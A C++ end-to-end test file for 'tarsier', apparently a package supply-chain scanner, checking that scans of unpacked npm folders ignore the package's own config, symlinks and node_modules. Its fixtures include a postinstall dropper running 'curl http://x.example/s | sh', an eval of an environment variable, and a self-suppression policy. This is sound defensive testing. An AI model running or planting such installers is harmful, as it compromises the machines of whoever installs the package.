// End-to-end: `tarsier scan DIR` on an unpacked package folder. Its files are analysed as the
// archive its registry would serve; its own configuration (.tarsier.yml, .npmrc) is the
// package's, not the user's, and is never applied; links out of it are not followed.
#include <catch2/catch.hpp>

#include <filesystem>
#include <nlohmann/json.hpp>

#include "tests/support/paths.h"
#include "tests/support/process.h"
#include "tests/support/report_json.h"

using namespace tarsier::test;
using nlohmann::json;

namespace {

std::string write_package(const TempDir& dir, const std::string& installer) {
  dir.write(
      "pkg/package.json",
      R"({"name": "folder-pkg", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}})");
  dir.write("pkg/i.js", installer);
  // The package's own policy would raise the gate past its findings and suppress them.
  dir.write("pkg/.tarsier.yml", R"(fail-on: critical
suppressions:
  - ecosystem: npm
    name: folder-pkg
    version: "*"
    capability: shell
    reason: trust me
)");
  dir.write("pkg/.npmrc", "registry=http://127.0.0.1:9/\n");
  dir.write("pkg/node_modules/dep/index.js", "eval(process.env.X);\n");
  return dir.path() + "/pkg";
}

}  // namespace

TEST_CASE("scan of a package folder analyses its files, never its own configuration", "[e2e]") {
  TempDir dir;
  std::string pkg =
      write_package(dir, "require('child_process').exec('curl http://x.example/s | sh');\n");
  dir.write("outside/secret.js", "require('child_process').exec('echo SECRET-77');\n");
  std::filesystem::create_symlink(dir.path() + "/outside/secret.js", pkg + "/leak.js");

  auto run = run_process({tarsier_binary(), "scan", "--quiet", "--no-db", "--format", "json", pkg},
                         isolated_env(dir.path()));
  INFO(run.err);
  CHECK(run.exit_code == 1);  // the default gate (high), not the package's "critical"
  json report = json::parse(run.out);
  REQUIRE(report["packages"].size() == 1);
  const json& p = report["packages"][0];
  CHECK(p["name"] == "folder-pkg");
  CHECK(p["risk"] == "critical");
  CHECK(has_rule(p, "threat-dropper"));
  for (const auto& f : p["findings"]) {
    CHECK(f.value("suppressed", false) == false);
    std::string file = f.value("file", "");
    CHECK(file.rfind("node_modules/", 0) == std::string::npos);
    CHECK(file != "leak.js");
  }
  CHECK(run.out.find("SECRET-77") == std::string::npos);
  CHECK(run.err.find(".tarsier.yml") == std::string::npos);
}

TEST_CASE("a package folder edited between scans is not reported as republished", "[e2e]") {
  TempDir dir;
  std::string pkg = write_package(dir, "module.exports = 1;\n");
  std::string db = dir.path() + "/risk.db";
  auto scan = [&] {
    return run_process({tarsier_binary(), "scan", "--quiet", "--db", db, "--format", "json", pkg},
                       isolated_env(dir.path()));
  };
  auto first = scan();
  INFO(first.err);
  REQUIRE(first.exit_code == 0);
  dir.write("pkg/i.js", "module.exports = 2;\n");
  auto second = scan();
  INFO(second.err);
  CHECK(second.exit_code == 0);
  json report = json::parse(second.out);
  REQUIRE(report["packages"].size() == 1);
  CHECK_FALSE(has_rule(report["packages"][0], "integrity-republished"));
}
